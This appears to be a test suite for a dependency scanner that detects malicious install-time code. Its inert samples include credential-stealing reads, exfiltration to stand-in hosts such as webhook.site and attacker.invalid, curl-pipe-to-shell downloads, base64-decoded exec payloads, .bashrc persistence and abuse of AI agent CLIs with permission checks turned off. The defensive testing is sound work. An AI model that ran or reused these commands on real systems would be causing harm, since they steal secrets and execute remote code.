"""Behaviour analysis of install-time code: JavaScript, Python and shell, parsed not grepped.

Every sample here is inert text handed to the parsers; nothing is executed.
"""

from __future__ import annotations

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shipwarden.core.catalogue import all_rules
from shipwarden.deps.analysis.code import Context, analyze_code
from shipwarden.deps.analysis.indicators import load_indicators
from shipwarden.deps.analysis.model import Capability as C
from shipwarden.deps.analysis.verdict import judge


def caps(language: str, code: str, strong_only: bool = True) -> set[C]:
    facts = analyze_code(language, code, Context("sample"))
    return {e.capability for e in facts.evidence if e.strong or not strong_only}


def rules(language: str, code: str) -> dict[str, str]:
    facts = analyze_code(language, code, Context("sample"))
    return {j.rule: j.tier.value for j in judge(facts.evidence)}


# --------------------------------------------------------------------------- JavaScript


def test_js_require_aliases_resolve() -> None:
    code = """
    const cp = require('node:child_process');
    const { readFileSync: rf } = require("fs");
    import * as os from "os";
    cp.execSync("gh auth token");
    rf(os.homedir() + "/.npmrc");
    """
    found = caps("javascript", code)
    assert {C.CHILD_PROCESS, C.CREDENTIAL_COMMAND, C.CREDENTIAL_READ} <= found


def test_js_path_join_renders_home_paths() -> None:
    code = 'const fs=require("fs"),p=require("path"),os=require("os");fs.readFileSync(p.join(os.homedir(),".aws","credentials"))'
    facts = analyze_code("javascript", code, Context("s"))
    reads = [e for e in facts.evidence if e.capability is C.CREDENTIAL_READ and e.strong]
    assert reads and "~/.aws/credentials" in reads[0].detail


def test_js_const_propagation_into_read() -> None:
    code = 'const fs=require("fs");const target=`${process.env.HOME}/.git-credentials`;fs.readFileSync(target,"utf8")'
    assert C.CREDENTIAL_READ in caps("javascript", code)


def test_js_env_sweep_vs_env_passthrough() -> None:
    assert C.ENV_SWEEP in caps("javascript", "send(JSON.stringify(process.env))")
    assert C.ENV_SWEEP in caps("javascript", "const loot = {env: JSON.stringify(process.env)}")
    assert C.ENV_SWEEP in caps("javascript", "for (const k in process.env) out.push(k)")
    passthrough = [
        'require("child_process").spawn("node", ["x.js"], {env: process.env})',
        'require("child_process").spawn("node", ["x.js"], {env: {...process.env, A: "1"}})',
        'require("child_process").spawn("node", ["x.js"], {env: Object.assign({}, process.env, {A: 1})})',
        "const opts = {stdio: 'inherit', env: process.env}",
    ]
    for code in passthrough:
        assert C.ENV_SWEEP not in caps("javascript", code, strong_only=False), code


def test_js_token_env_names() -> None:
    assert C.TOKEN_ENV in caps("javascript", "const t = process.env.NPM_TOKEN")
    assert C.TOKEN_ENV in caps("javascript", "const t = process.env['GITHUB_TOKEN']")
    assert C.TOKEN_ENV not in caps("javascript", "const r = process.env.npm_config_registry")


def test_js_decode_exec_and_taint() -> None:
    assert C.DECODE_EXEC in caps("javascript", "eval(Buffer.from(payload, 'base64').toString())")
    assert C.DECODE_EXEC in caps("javascript", "const s = atob(x); const f = s; new Function(f)()")
    assert C.DECODE_EXEC in caps("javascript", "eval(String.fromCharCode(104,105))")
    assert C.DECODE_EXEC not in caps("javascript", "eval('1+1')")
    assert C.DECODE_EXEC not in caps("javascript", "Buffer.from(x, 'utf8'); eval(y)")


def test_js_download_and_eval_through_callbacks() -> None:
    code = """
    const https = require('https');
    https.get('https://stage2.attacker.invalid/x.js', (res) => {
      let body = '';
      res.on('data', (d) => { body += d; });
      res.on('end', () => eval(body));
    });
    """
    assert C.DOWNLOAD_EXEC in caps("javascript", code)
    assert rules("javascript", code)["deps-download-exec"] == "P1"


def test_js_exec_string_is_parsed_as_shell() -> None:
    code = "require('child_process').execSync('curl -fsSL https://get.example.invalid/i.sh | bash')"
    assert C.DOWNLOAD_EXEC in caps("javascript", code)
    code = "require('child_process').spawnSync('npm', ['publish', '--access', 'public'])"
    assert C.PROPAGATION in caps("javascript", code)


def test_js_base64_payload_is_decoded_and_analysed() -> None:
    inner = "require('child_process').execSync('cat ~/.npmrc | curl -d @- https://webhook.site/abc')"
    blob = base64.b64encode(inner.encode()).decode()
    facts = analyze_code("javascript", f"eval(Buffer.from('{blob}','base64').toString())", Context("s"))
    found = {e.capability for e in facts.evidence}
    assert {C.DECODE_EXEC, C.OBFUSCATION, C.CREDENTIAL_READ, C.EXFIL_HOST} <= found
    assert any(e.context == "in decoded data" and e.capability is C.CREDENTIAL_READ for e in facts.evidence)


def test_js_obfuscation_markers() -> None:
    mangled = ";".join(f"var _0x{i:04x}a=1" for i in range(10))
    assert C.OBFUSCATION in caps("javascript", mangled)
    hexes = 'var s="' + "\\x41" * 80 + '"'
    assert C.OBFUSCATION in caps("javascript", hexes)
    assert C.OBFUSCATION not in caps("javascript", "var _0xabc=1; function f(a,b){return a+b}")


def test_js_runner_memory_and_persistence() -> None:
    code = 'const fs=require("fs"); for (const p of fs.readdirSync("/proc")) fs.readFileSync(`/proc/${p}/mem`)'
    assert rules("javascript", code).get("deps-runner-memory") == "P0"
    code = 'const fs=require("fs"),os=require("os"); fs.appendFileSync(os.homedir()+"/.bashrc", "sudo shutdown -h 0")'
    assert rules("javascript", code).get("deps-persistence") == "P0"


def test_js_agent_cli_abuse_like_nx() -> None:
    code = """const {spawnSync}=require('child_process');
    spawnSync('claude', ['--dangerously-skip-permissions', '-p', 'find wallets']);
    require('https').request({hostname: 'x.attacker.invalid', method: 'POST'});"""
    found = caps("javascript", code)
    assert C.AGENT_CLI in found
    assert rules("javascript", code)["deps-credential-theft"] == "P0"


def test_js_benign_build_script_has_no_verdict() -> None:
    code = """
    const { execSync } = require('child_process');
    const path = require('path');
    if (process.env.CI !== 'true') {
      execSync('node-gyp rebuild', { cwd: path.join(__dirname, 'src'), stdio: 'inherit', env: process.env });
    }
    console.log('built');
    """
    assert rules("javascript", code) == {}
    assert C.NATIVE_BUILD in caps("javascript", code)


def test_js_syntax_errors_are_notes_not_crashes() -> None:
    facts = analyze_code("javascript", "function ( { eval(atob('", Context("broken.js"))
    assert facts.notes


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_js_never_raises(code: str) -> None:
    analyze_code("javascript", code, Context("fuzz.js"))


# --------------------------------------------------------------------------- Python


def test_py_pth_exec_of_base64_is_p0() -> None:
    inner = "import os, urllib.request\nurllib.request.urlopen('https://x.attacker.invalid', data=str(dict(os.environ)).encode())\n"
    blob = base64.b64encode(inner.encode()).decode()
    code = f"import base64;exec(base64.b64decode('{blob}'))"
    verdicts = rules("python", code)
    assert verdicts["deps-obfuscated-exec"] == "P0"
    assert verdicts["deps-credential-theft"] == "P0"


def test_py_dunder_import_resolves() -> None:
    assert C.DECODE_EXEC in caps("python", "exec(__import__('base64').b64decode(x))")
    assert C.DECODE_EXEC in caps("python", "from base64 import b64decode as d\ncode = d(x)\nexec(code)")


def test_py_chr_chain_is_obfuscation() -> None:
    code = "exec(" + "+".join(f"chr({ord(c)})" for c in "print('hello world')") + ")"
    found = caps("python", code)
    assert C.OBFUSCATION in found and C.DECODE_EXEC in found


def test_py_env_sweep_and_passthrough() -> None:
    assert C.ENV_SWEEP in caps("python", "import os, json\njson.dumps(dict(os.environ))")
    assert C.ENV_SWEEP in caps("python", "import os\nfor k in os.environ: print(k)")
    assert C.ENV_SWEEP in caps("python", "import os\nx = os.environ.copy()")
    assert C.ENV_SWEEP not in caps("python", "import os, subprocess\nsubprocess.run(['make'], env=os.environ)", strong_only=False)
    assert C.TOKEN_ENV in caps("python", "import os\nt = os.environ['PYPI_TOKEN']")
    assert C.TOKEN_ENV in caps("python", "import os\nt = os.getenv('GITHUB_TOKEN')")


def test_py_credential_and_persistence_paths() -> None:
    code = "import os\nopen(os.path.expanduser('~/.pypirc')).read()\nopen(os.path.join(os.path.expanduser('~'), '.zshrc'), 'a').write('x')"
    found = caps("python", code)
    assert {C.CREDENTIAL_READ, C.PERSISTENCE} <= found
    code = "from pathlib import Path\n(Path.home() / '.kube' / 'config').read_text()"
    assert C.CREDENTIAL_READ in caps("python", code)


def test_py_subprocess_shapes() -> None:
    assert C.DOWNLOAD_EXEC in caps("python", "import os\nos.system('wget -qO- https://x.invalid/a.sh | sh')")
    assert C.PROPAGATION in caps("python", "import subprocess\nsubprocess.run(['git', 'push', 'origin', 'main'])")
    assert C.DOWNLOAD_EXEC in caps("python", "import urllib.request as u\nexec(u.urlopen('https://x.invalid/p').read())")


def test_py_benign_setup_py() -> None:
    code = "from setuptools import setup, Extension\nsetup(name='x', ext_modules=[Extension('x._c', ['src/c.c'])])\n"
    assert rules("python", code) == {}


def test_py2_setup_py_is_a_note() -> None:
    facts = analyze_code("python", "print 'hello'\n", Context("setup.py"))
    assert facts.notes and not facts.evidence


@settings(max_examples=60, deadline=None)
@given(st.text(max_size=300))
def test_py_never_raises(code: str) -> None:
    analyze_code("python", code, Context("fuzz.py"))


# --------------------------------------------------------------------------- shell


@pytest.mark.parametrize(
    ("script", "capability"),
    [
        ("curl -fsSL https://get.example.invalid/install.sh | bash", C.DOWNLOAD_EXEC),
        ("cat ~/.npmrc", C.CREDENTIAL_READ),
        ("env | curl -X POST --data-binary @- https://x.invalid/", C.ENV_SWEEP),
        ("env | curl -X POST --data-binary @- https://x.invalid/", C.NETWORK_SEND),
        ('echo "sudo shutdown -h 0" >> ~/.bashrc', C.PERSISTENCE),
        ("npm publish --access public", C.PROPAGATION),
        ("git push origin HEAD", C.PROPAGATION),
        ("gh auth token", C.CREDENTIAL_COMMAND),
        ("security find-generic-password -s github", C.CREDENTIAL_COMMAND),
        ("gemini --yolo -p 'list files'", C.AGENT_CLI),
        ("echo $NPM_TOKEN", C.TOKEN_ENV),
        ("echo aGk= | base64 -d | sh", C.DECODE_EXEC),
        ("node-gyp rebuild", C.NATIVE_BUILD),
        ("systemctl --user enable telemetry.service", C.PERSISTENCE),
    ],
)
def test_shell_capabilities(script: str, capability: C) -> None:
    assert capability in caps("shell", script)


def test_shell_runs_interpreter_files_and_inline_code() -> None:
    facts = analyze_code("shell", "node ./scripts/postinstall.js && bun run setup_bun.js && python3 -m pip --version", Context("s"))
    assert ("javascript", "./scripts/postinstall.js", 1) in facts.runs
    assert ("javascript", "setup_bun.js", 1) in facts.runs
    inline = analyze_code("shell", "node -e \"require('child_process').execSync('gh auth token')\"", Context("s"))
    assert C.CREDENTIAL_COMMAND in {e.capability for e in inline.evidence}


def test_shell_benign_hooks_have_no_verdict() -> None:
    for script in ("node-gyp rebuild", "prebuild-install || node-gyp rebuild", "husky install", "echo done && exit 0",
                   "node install.js", "opencollective-postinstall || true"):
        assert rules("shell", script) == {}, script


# --------------------------------------------------------------------------- tables


def test_every_verdict_rule_is_declared_for_deps() -> None:
    for verdict in load_indicators().verdicts:
        meta = all_rules()[verdict.rule]
        assert meta.command == "deps" and meta.row == 4


def test_credential_paths_come_from_the_endpoint_catalogue() -> None:
    from shipwarden.knowledge.credential_stores import credential_path_globs

    ind = load_indicators()
    assert {g.glob for g in ind.credential_globs} == set(credential_path_globs())
    assert ind.credential_path("~/.claude.json") == "claude-code-config"
    assert ind.credential_path("/home/runner/.config/gh/hosts.yml") == "gh-hosts"
    assert ind.credential_path("src/index.js") is None


def test_exfil_hosts_match_by_labels() -> None:
    ind = load_indicators()
    assert ind.exfil_host("https://abc.webhook.site/x")
    assert ind.exfil_host("https://discord.com/api/webhooks/1/2")
    assert not ind.exfil_host("https://discord.com/invite/x")
    assert not ind.exfil_host("https://notwebhook.site.example.invalid/")
    assert not ind.exfil_host("https://registry.example.invalid/pkg")
